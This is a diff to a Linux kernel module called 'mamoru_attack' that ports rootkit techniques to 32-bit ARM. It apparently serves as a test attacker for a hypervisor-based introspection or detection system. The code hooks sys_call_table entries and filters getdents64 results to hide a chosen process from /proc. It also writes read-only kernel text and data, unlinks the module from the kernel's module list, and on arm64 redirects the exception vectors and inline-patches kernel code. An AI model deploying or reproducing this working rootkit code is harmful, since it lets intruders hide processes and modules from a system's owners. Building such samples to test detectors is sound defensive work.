@@ -32,10 +32,17 @@
  *   kprobe_hook=1   register a kprobe (a BRK written into kernel text) on the same handler
  *                   with a pre_handler that counts calls
  *
+ * Architectures: arm64 (Debian's cloud kernels) and 32-bit ARM (the versatilepb guest's 6.1
+ * kernel, ARMv5). vbar, inline_hook and kprobe_hook are arm64 only: elsewhere insmod fails
+ * with "not supported on this architecture". On 32-bit ARM the hooked handlers are the
+ * sys_<name> functions (getdents64 is 217) and table entries are 4 bytes.
+ *
  * The kernel's kallsyms has no data symbols, so the caller passes the runtime address of
- * sys_call_table. The table is read-only data: the slot is written through a temporary
- * writable mapping (vmap) of the table's physical page; kernel text likewise (inline_hook),
- * with the caches cleaned to the point of unification on both mappings.
+ * sys_call_table. On arm64 the table is read-only data: the slot is written through a
+ * temporary writable mapping (vmap) of the table's physical page; kernel text likewise
+ * (inline_hook), with the caches cleaned to the point of unification on both mappings. On
+ * 32-bit ARM without STRICT_KERNEL_RWX the linear map is writable: a plain store, and the
+ * VIVT D-cache line cleaned to memory.
  * Both unlinks run under stop_machine(): the locks that guard these lists are not exported,
  * and with every CPU in the stopper no lock holder or RCU reader (this kernel's RCU is not
  * preemptible) is in the middle of either list.
@@ -68,18 +75,43 @@
 #include <asm/memory.h>
 #include <asm/mmu.h>
 #include <asm/syscall.h>
-#include <asm/sysreg.h>
 #include <asm/unistd.h>
+#ifdef CONFIG_ARM64
+#include <asm/sysreg.h>
+#endif
 
 #define PFX "mamoru_attack: "
+
+/*
+ * What a system call table entry is. arm64: a function of the saved registers, named
+ * __arm64_sys_<name>. 32-bit ARM: a plain C function of up to six register-sized arguments
+ * (r0-r3 and two words the entry code pushed), named sys_<name>; a hook taking and passing
+ * on six words forwards any of them unchanged. HOOK_PARAMS/HOOK_ARGS declare and pass the
+ * arguments, ARG(i) is the i-th one.
+ */
+#ifdef CONFIG_ARM64
+#define SYS_PREFIX "__arm64_sys_"
+typedef syscall_fn_t handler_fn;
+#define HOOK_PARAMS const struct pt_regs *regs
+#define HOOK_ARGS regs
+#define ARG(i) (regs->regs[i])
+#else
+#define SYS_PREFIX "sys_"
+typedef long (*handler_fn)(unsigned long, unsigned long, unsigned long, unsigned long,
+			   unsigned long, unsigned long);
+#define HOOK_PARAMS unsigned long a0, unsigned long a1, unsigned long a2, unsigned long a3, \
+		    unsigned long a4, unsigned long a5
+#define HOOK_ARGS a0, a1, a2, a3, a4, a5
+#define ARG(i) (a##i)
+#endif
 
 static unsigned long sct;
 module_param(sct, ulong, 0444);
 MODULE_PARM_DESC(sct, "runtime address of sys_call_table (0: hook nothing)");
 
-static int nr = __NR_getdents64;	/* 61 */
+static int nr = __NR_getdents64;	/* 61 on arm64, 217 on 32-bit ARM */
 module_param(nr, int, 0444);
-MODULE_PARM_DESC(nr, "system call number to hook (default 61, getdents64)");
+MODULE_PARM_DESC(nr, "system call number to hook (default getdents64: 61 arm64, 217 arm)");
 
 static int hide_pid;
 module_param(hide_pid, int, 0444);
@@ -133,8 +165,8 @@ static const struct kernel_param_ops calls_ops = { .get = calls_get };
 module_param_cb(calls, &calls_ops, NULL, 0444);
 MODULE_PARM_DESC(calls, "how many times the hooked system call ran (read-only)");
 
-static syscall_fn_t *slot;	/* &sys_call_table[nr] once hooked */
-static syscall_fn_t original;
+static handler_fn *slot;	/* &sys_call_table[nr] once hooked */
+static handler_fn original;
 static struct task_struct *hidden_task;
 static char hidden_name[16];	/* hide_pid in decimal: its directory name in /proc */
 
@@ -152,12 +184,12 @@ static bool is_proc_root(unsigned int fd)
 }
 
 /*
- * getdents64 returned len bytes of records at regs->regs[1]: drops the hidden process's
- * entry if there is one. Returns the new length (unchanged when there is nothing to do).
+ * getdents64 returned len bytes of records at user address records: drops the hidden
+ * process's entry if there is one. Returns the new length (unchanged when there is nothing
+ * to do).
  */
-static long drop_hidden_entry(const struct pt_regs *regs, long len)
+static long drop_hidden_entry(void __user *records, long len)
 {
-	void __user *records = (void __user *)regs->regs[1];
 	long pos = 0, out = 0;
 	char *buf;
 
@@ -191,29 +223,30 @@ keep:
 	return len;
 }
 
-static long hooked_syscall(const struct pt_regs *regs)
+static long hooked_syscall(HOOK_PARAMS)
 {
 	long ret;
 
 	atomic_inc(&in_hook);
 	atomic_long_inc(&calls);
-	ret = original(regs);
-	if (nr == __NR_getdents64 && hidden_task && is_proc_root(regs->regs[0])) {
+	ret = original(HOOK_ARGS);
+	if (nr == __NR_getdents64 && hidden_task && is_proc_root(ARG(0))) {
 		/* An empty result means "end of directory": read on if only P was dropped. */
 		while (ret > 0) {
-			long kept = drop_hidden_entry(regs, ret);
+			long kept = drop_hidden_entry((void __user *)ARG(1), ret);
 
 			if (kept > 0) {
 				ret = kept;
 				break;
 			}
-			ret = original(regs);
+			ret = original(HOOK_ARGS);
 		}
 	}
 	atomic_dec(&in_hook);
 	return ret;
 }
 
+#ifdef CONFIG_ARM64
 /*
  * Stores the low size (1, 4 or 8) bytes of val at where, in the read-only kernel image,
  * through a writable alias of its page: the one way this module writes what the kernel
@@ -247,16 +280,62 @@ static int write_ro(void *where, u64 val, int size, bool text)
 		flush_icache_range(addr, addr + size);	/* the real VA, and every CPU */
 	return 0;
 }
+#else
+/*
+ * 32-bit ARM: stores the low size (1 or 4) bytes of val at where, in the kernel image.
+ * Without STRICT_KERNEL_RWX (the versatile guest's kernel) the linear map holds the whole
+ * image writable, so this is a plain store. The ARM926's caches are virtually indexed and
+ * tagged: the store may sit in a D-cache line of this address only, so the line is cleaned
+ * (and invalidated) to memory, where anything reading the physical page (the instruction
+ * fetch of text, the hypervisor's introspection) finds it.
+ */
+static int write_ro(void *where, u64 val, int size, bool text)
+{
+	unsigned long addr = (unsigned long)where;
 
-static int write_ro_word(syscall_fn_t *where, syscall_fn_t fn)
+	if (IS_ENABLED(CONFIG_STRICT_KERNEL_RWX)) {
+		pr_err(PFX "the kernel text and rodata are read-only (STRICT_KERNEL_RWX)\n");
+		return -EPERM;
+	}
+	if (size == 1)
+		WRITE_ONCE(*(u8 *)where, (u8)val);
+	else if (size == 4)
+		WRITE_ONCE(*(u32 *)where, (u32)val);
+	else
+		return -EINVAL;
+	__cpuc_flush_dcache_area(where, size);
+	if (text)
+		flush_icache_range(addr, addr + size);
+	return 0;
+}
+#endif
+
+static int write_ro_word(handler_fn *where, handler_fn fn)
 {
 	return write_ro(where, (u64)(unsigned long)fn, sizeof(fn), false);
 }
 
-/* sprint_symbol() of the handler in table slot i, or -EFAULT if the slot cannot be read. */
-static int slot_symbol(unsigned long table, int i, syscall_fn_t *fn, char *name)
+/*
+ * Whether a table entry, by its sprint_symbol() name, is a handler this module can forward
+ * to: the architecture's handler prefix (a slot already hooked holds this module's function).
+ * On 32-bit ARM not the assembly entries that read or write the caller's stack as the
+ * entry code left it (the *_wrapper ones, sys_mmap2, sys_syscall): a C hook in between
+ * moves the stack.
+ */
+static bool hookable(const char *name)
 {
-	if (copy_from_kernel_nofault(fn, (syscall_fn_t *)table + i, sizeof(*fn)))
+	if (strncmp(name, SYS_PREFIX, strlen(SYS_PREFIX)) != 0)
+		return false;
+	if (IS_ENABLED(CONFIG_ARM64))
+		return true;
+	return !strstr(name, "_wrapper+") && strncmp(name, "sys_mmap2+", 10) != 0 &&
+	       strncmp(name, "sys_syscall+", 12) != 0;
+}
+
+/* sprint_symbol() of the handler in table slot i, or -EFAULT if the slot cannot be read. */
+static int slot_symbol(unsigned long table, int i, handler_fn *fn, char *name)
+{
+	if (copy_from_kernel_nofault(fn, (handler_fn *)table + i, sizeof(*fn)))
 		return -EFAULT;
 	sprint_symbol(name, (unsigned long)*fn);
 	return 0;
@@ -265,7 +344,7 @@ static int slot_symbol(unsigned long table, int i, syscall_fn_t *fn, char *name)
 static int hook_syscall(void)
 {
 	char name[KSYM_SYMBOL_LEN];
-	syscall_fn_t fn;
+	handler_fn fn;
 	int err;
 
 	if (nr < 0 || nr >= __NR_syscalls) {
@@ -274,17 +353,17 @@ static int hook_syscall(void)
 	}
 	/* A wrong address would have us write into random kernel data: check the table first. */
 	if (!IS_ALIGNED(sct, sizeof(fn)) || slot_symbol(sct, __NR_read, &fn, name) ||
-	    strncmp(name, "__arm64_sys_read+0x0/", 21) != 0) {
-		pr_err(PFX "sct=%#lx is not sys_call_table (slot %d is not __arm64_sys_read)\n",
+	    strncmp(name, SYS_PREFIX "read+0x0/", strlen(SYS_PREFIX "read+0x0/")) != 0) {
+		pr_err(PFX "sct=%#lx is not sys_call_table (slot %d is not " SYS_PREFIX "read)\n",
 		       sct, __NR_read);
 		return -EINVAL;
 	}
-	if (slot_symbol(sct, nr, &fn, name) || strncmp(name, "__arm64_sys_", 12) != 0) {
+	if (slot_symbol(sct, nr, &fn, name) || !hookable(name)) {
 		pr_err(PFX "slot %d holds %px, not a system call handler (hooked already?)\n",
 		       nr, fn);
 		return -EBUSY;
 	}
-	slot = (syscall_fn_t *)sct + nr;
+	slot = (handler_fn *)sct + nr;
 	original = fn;
 	err = write_ro_word(slot, hooked_syscall);
 	if (err) {
@@ -408,24 +487,27 @@ static int corrupt_task_list(void)
 
 /* -- more system call hooks (more_nr=) ---------------------------------------- */
 
-static syscall_fn_t *more_slot[MAX_MORE];
-static syscall_fn_t more_original[MAX_MORE];
+static handler_fn *more_slot[MAX_MORE];
+static handler_fn more_original[MAX_MORE];
 
-static long forwarding_hook(const struct pt_regs *regs)
+/* Slot i's hook: counts the call and forwards it to slot i's original handler. One function
+ * per slot, since a 32-bit ARM handler is not told its system call number. */
+static long forward(int i, HOOK_PARAMS)
 {
-	long ret = -ENOSYS;
-	int i;
+	long ret;
 
 	atomic_inc(&in_hook);
 	atomic_long_inc(&calls);
-	for (i = 0; i < n_more; i++)
-		if (more_slot[i] && regs->syscallno == more_nr[i]) {
-			ret = more_original[i](regs);
-			break;
-		}
+	ret = more_original[i](HOOK_ARGS);
 	atomic_dec(&in_hook);
 	return ret;
 }
+
+static long forward0(HOOK_PARAMS) { return forward(0, HOOK_ARGS); }
+static long forward1(HOOK_PARAMS) { return forward(1, HOOK_ARGS); }
+static long forward2(HOOK_PARAMS) { return forward(2, HOOK_ARGS); }
+static long forward3(HOOK_PARAMS) { return forward(3, HOOK_ARGS); }
+static const handler_fn forwarders[MAX_MORE] = { forward0, forward1, forward2, forward3 };
 
 static void unhook_more(void)
 {
@@ -451,24 +533,24 @@ static void unhook_more(void)
 static int hook_more(void)
 {
 	char name[KSYM_SYMBOL_LEN];
-	syscall_fn_t fn;
+	handler_fn fn;
 	int i, err;
 
 	for (i = 0; i < n_more; i++) {
 		if (more_nr[i] < 0 || more_nr[i] >= __NR_syscalls || more_nr[i] == nr ||
-		    slot_symbol(sct, more_nr[i], &fn, name) || strncmp(name, "__arm64_sys_", 12)) {
+		    slot_symbol(sct, more_nr[i], &fn, name) || !hookable(name)) {
 			pr_err(PFX "more_nr %d: not a free system call slot\n", more_nr[i]);
 			unhook_more();
 			return -EINVAL;
 		}
 		more_original[i] = fn;
-		err = write_ro_word((syscall_fn_t *)sct + more_nr[i], forwarding_hook);
+		err = write_ro_word((handler_fn *)sct + more_nr[i], forwarders[i]);
 		if (err) {
 			unhook_more();
 			return err;
 		}
-		more_slot[i] = (syscall_fn_t *)sct + more_nr[i];
-		pr_info(PFX "hooked syscall %d: %px -> %px (%s)\n", more_nr[i], fn, forwarding_hook,
+		more_slot[i] = (handler_fn *)sct + more_nr[i];
+		pr_info(PFX "hooked syscall %d: %px -> %px (%s)\n", more_nr[i], fn, forwarders[i],
 			name);
 	}
 	return 0;
@@ -505,6 +587,14 @@ static void restore_banner(void)
 		banner_changed = false;
 }
 
+static int unlink_module(void *mod)
+{
+	/* Like list_del_rcu: a walker standing on this entry still finds the next one. */
+	list_del_rcu(&((struct module *)mod)->list);
+	return 0;
+}
+
+#ifdef CONFIG_ARM64
 /* -- exception vectors (vbar=1) ------------------------------------------------- */
 
 typedef void *(*vmalloc_range_fn)(unsigned long size, unsigned long align, unsigned long start,
@@ -516,7 +606,7 @@ typedef void *(*vmalloc_range_fn)(unsigned long size, unsigned long align, unsig
 
 static u32 *fake_vectors;
 static unsigned long orig_vectors;
-static syscall_fn_t *tramp_slot;	/* the trampoline's `.quad vectors` (KPTI) */
+static handler_fn *tramp_slot;	/* the trampoline's `.quad vectors` (KPTI) */
 
 /* A text symbol's address, the way rootkits find what is not exported: kallsyms_lookup_name
  * through a kprobe's address resolution. */
@@ -542,14 +632,14 @@ static void set_vectors(void *table)
 }
 
 /* The page-aligned read-only quad holding `vectors` that the KPTI trampoline loads. */
-static syscall_fn_t *find_tramp_slot(void)
+static handler_fn *find_tramp_slot(void)
 {
 	unsigned long p;
 	u64 q;
 
 	for (p = PAGE_ALIGN(tramp_start); p + sizeof(q) <= tramp_end; p += PAGE_SIZE)
 		if (!copy_from_kernel_nofault(&q, (void *)p, sizeof(q)) && q == orig_vectors)
-			return (syscall_fn_t *)p;
+			return (handler_fn *)p;
 	return NULL;
 }
 
@@ -602,7 +692,7 @@ static int redirect_vectors(void)
 	}
 	caches_clean_inval_pou((unsigned long)fake_vectors,
 			       (unsigned long)fake_vectors + VECTORS_SIZE);
-	if (tramp_slot && write_ro_word(tramp_slot, (syscall_fn_t)fake_vectors)) {
+	if (tramp_slot && write_ro_word(tramp_slot, (handler_fn)fake_vectors)) {
 		tramp_slot = NULL;
 		return -EFAULT;
 	}
@@ -617,18 +707,11 @@ static void restore_vectors(void)
 	if (!fake_vectors)
 		return;
 	if (tramp_slot)
-		write_ro_word(tramp_slot, (syscall_fn_t)orig_vectors);
+		write_ro_word(tramp_slot, (handler_fn)orig_vectors);
 	on_each_cpu(set_vectors, (void *)orig_vectors, 1);
 	/* The page stays: an exception taken just now may still be on its way through it. */
 	fake_vectors = NULL;
 	tramp_slot = NULL;
-}
-
-static int unlink_module(void *mod)
-{
-	/* Like list_del_rcu: a walker standing on this entry still finds the next one. */
-	list_del_rcu(&((struct module *)mod)->list);
-	return 0;
 }
 
 /* -- kernel text: inline patch and kprobe ------------------------------------------------ */
@@ -797,6 +880,21 @@ static void text_undo(void)
 	kprobe_detach();
 	inline_unpatch();
 }
+#else
+/* vbar=, inline_hook= and kprobe_hook= attack arm64 code (VBAR_EL1, A64 branches, a kprobe on
+ * the arm64 handler): elsewhere they refuse to load. */
+static int not_here(const char *what)
+{
+	pr_err(PFX "%s=1: not supported on this architecture\n", what);
+	return -EOPNOTSUPP;
+}
+
+static int redirect_vectors(void) { return not_here("vbar"); }
+static void restore_vectors(void) { }
+static int inline_patch(void) { return not_here("inline_hook"); }
+static int kprobe_attach(void) { return not_here("kprobe_hook"); }
+static void text_undo(void) { }
+#endif /* CONFIG_ARM64 */
 
 static void undo(void)
 {
